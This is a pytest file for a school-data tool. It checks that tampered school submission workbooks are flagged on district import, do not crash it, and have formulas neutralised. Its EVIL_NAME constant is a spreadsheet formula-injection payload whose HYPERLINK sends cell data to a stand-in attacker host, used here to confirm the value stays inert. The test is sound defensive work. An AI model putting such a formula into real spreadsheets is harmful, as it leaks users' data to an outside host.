"""Tampered school submission workbooks at the district office: flagged, never a crash, never a formula."""

from __future__ import annotations

import openpyxl
import pytest

from schoolvault import services
from schoolvault.workspace import open_workspace

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"가나초")'


@pytest.fixture(scope="module")
def school_workbook(_template_demo_ws, tmp_path_factory):
    import shutil

    from schoolvault.reports.workbook import export_workbook
    d = tmp_path_factory.mktemp("submission")
    ws_path = d / "school.sqlite"
    shutil.copy(_template_demo_ws, ws_path)
    with open_workspace(ws_path) as ws:
        export_workbook(ws, d / "school.xlsx")
    return d / "school.xlsx"


def tampered(src, dest, *, name=None, cells=(), impossible_factors=0):
    wb = openpyxl.load_workbook(src)
    if name is not None:
        for row in wb["메타데이터"].iter_rows():
            if row[0].value == "school_name":
                row[1].value = name
                row[1].data_type = "s"
    rows = list(wb["제출자료"].iter_rows())
    for r, c, v in cells:
        rows[r][c].value = v
    factor_rows = [r for r in rows[1:] if r[0].value in ("factor", "domain")][:impossible_factors]
    for r in factor_rows:  # columns: kind instrument group code title n mean sd score100 …
        r[5].value, r[6].value, r[8].value = -7, 1e308, 555.0
    wb.save(dest)
    return dest


def district_import(db, path, capsys) -> tuple[int, str, str]:
    from schoolvault.cli import main
    try:
        rc = main(["--db", str(db), "district", "import", str(path)])
    except Exception as e:  # noqa: BLE001 - a traceback for the user
        pytest.fail(f"uncaught {type(e).__name__}: {e}")
    out, err = capsys.readouterr()
    return rc, out, err


def test_edited_submission_is_flagged(school_workbook, fresh_ws_path, tmp_path, capsys):
    f = tampered(school_workbook, tmp_path / "edited.xlsx", cells=[(2, 6, 4.99)])
    rc, out, err = district_import(fresh_ws_path, f, capsys)
    assert rc == 0, err
    assert "수정된 파일" in out or "검증값 불일치" in out


GARBAGE = [(2, 6, "abc"), (3, 5, -7), (4, 6, 1e308), (5, 4, "=1+1"), (6, 7, float("nan"))]


def stored_impossible(ws) -> int:
    """Packed [mean, score100] doubles of every school outside [0, 11] / [0, 100] (NaN = missing)."""
    import math
    import struct
    n = 0
    for (vals,) in ws.conn.execute("SELECT vals FROM district_schools"):
        nums = struct.unpack(f"<{len(vals) // 8}d", vals)
        n += sum(1 for m in nums[0::2] if not math.isnan(m) and not 0 <= m <= 11)
        n += sum(1 for x in nums[1::2] if not math.isnan(x) and not 0 <= x <= 100)
    return n


def test_garbage_numbers_in_a_submission_do_not_crash_and_check_flags_them(school_workbook, fresh_ws_path,
                                                                           tmp_path, capsys):
    f = tampered(school_workbook, tmp_path / "garbage.xlsx", cells=GARBAGE, impossible_factors=4)
    rc, _out, err = district_import(fresh_ws_path, f, capsys)
    assert rc in (0, 1)
    assert "Traceback" not in err
    if rc == 1:
        assert err.startswith("오류: ")
    with open_workspace(fresh_ws_path) as ws:
        stored_bad = stored_impossible(ws)
        problems = services.check(ws)
    flagged = [p for p in problems if "학교 제출자료" in p]
    assert bool(flagged) == bool(stored_bad), (stored_bad, problems)


def test_district_import_keeps_impossible_statistics_out(school_workbook, fresh_ws_path, tmp_path, capsys):
    f = tampered(school_workbook, tmp_path / "garbage.xlsx", cells=GARBAGE, impossible_factors=4)
    district_import(fresh_ws_path, f, capsys)
    with open_workspace(fresh_ws_path, readonly=True) as ws:
        assert stored_impossible(ws) == 0


def test_formula_in_a_school_name_is_inert_in_the_district_workbook(school_workbook, fresh_ws_path, tmp_path, capsys):
    from schoolvault.cli import main
    f = tampered(school_workbook, tmp_path / "evil.xlsx", name=EVIL_NAME)
    rc, _, err = district_import(fresh_ws_path, f, capsys)
    assert rc == 0, err
    out = tmp_path / "종합.xlsx"
    assert main(["--db", str(fresh_ws_path), "district", "report", str(out)]) == 0
    wb = openpyxl.load_workbook(out)
    cells = [c for sh in wb.worksheets for row in sh.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = [c.value for c in cells if isinstance(c.value, str) and "evil.example" in c.value]
    assert names and all(n.startswith("'") for n in names)
